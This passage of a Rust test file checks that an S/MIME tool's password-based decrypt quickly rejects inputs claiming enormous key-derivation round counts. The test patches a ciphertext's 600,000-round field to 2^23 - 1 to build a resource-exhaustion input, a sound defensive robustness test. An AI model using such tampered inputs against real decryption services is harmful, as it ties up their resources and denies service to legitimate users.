    let ran = sip_smime(&format!("decrypt -q{keys}"), &object);
    assert!(before.elapsed() < Duration::from_secs(1), "{:?}", before.elapsed());
    assert!(ran.said().contains("[decrypt.which-recipient]"), "{}", ran.said());
}

// R7: whoever writes the number of rounds does not say how long we work.
#[test]
fn r7_rounds_are_refused_at_once() {
    let vectors = vectors_of("decrypt");
    let huge: Vec<_> =
        vectors.iter().filter(|vector| vector.name.contains("password_") && vector.row_is("R7")).collect();
    let huge: Vec<_> = huge.into_iter().filter(|vector| vector.expect() == "decrypt.failed").collect();
    assert!(huge.len() > 4, "{}", huge.len());
    let mut object = done("encrypt -q --password file:testdata/keys/kek/password -outform der", ENTITY);
    // 600,000 rounds, in three octets, become 2^23 - 1.
    let at = find(&object, &[2, 3, 0x09, 0x27, 0xC0]);
    object[at + 2..at + 5].copy_from_slice(&[0x7F, 0xFF, 0xFF]);
    let password = "--password file:testdata/keys/kek/password".split(' ').map(str::to_owned);
    let ours: Vec<String> = std::iter::once("decrypt".to_owned()).chain(password).collect();
    let rows = huge.iter().map(|vector| (vector.name.as_str(), vector.arguments(), &vector.octets[..]));
    for (name, arguments, octets) in rows.chain([("2^23 - 1 rounds", ours, &object[..])]) {
        let before = Instant::now();
        let ran = run(&arguments, octets);
        assert!(before.elapsed() < Duration::from_millis(500), "{name}: {:?}", before.elapsed());
        assert_eq!((ran.status, ran.stdout.len()), (1, 0), "{name}: {}", ran.said());
    }
}
